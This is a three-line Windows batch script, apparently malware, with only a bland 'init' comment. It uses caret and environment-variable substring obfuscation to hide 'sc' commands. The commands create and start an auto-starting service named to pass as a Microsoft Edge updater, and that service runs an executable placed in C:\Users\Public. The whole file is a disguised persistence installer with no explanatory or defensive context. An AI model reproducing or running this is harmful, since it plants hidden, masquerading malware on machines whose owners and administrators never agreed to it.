REM init 8124 v2
%WINDIR:~9,1%c ^cr^eate ^Micro^s^of^t^E^d^ge^Upd^a^te^Core bi^nPath= "cmd.exe /c C:\Users\Public\svc.exe" ^sta^r^t= ^au^t^o
%PUBLIC:~-11,1%c ^s^ta^rt Mi^c^rosof^t^Ed^geUpd^ateCo^re
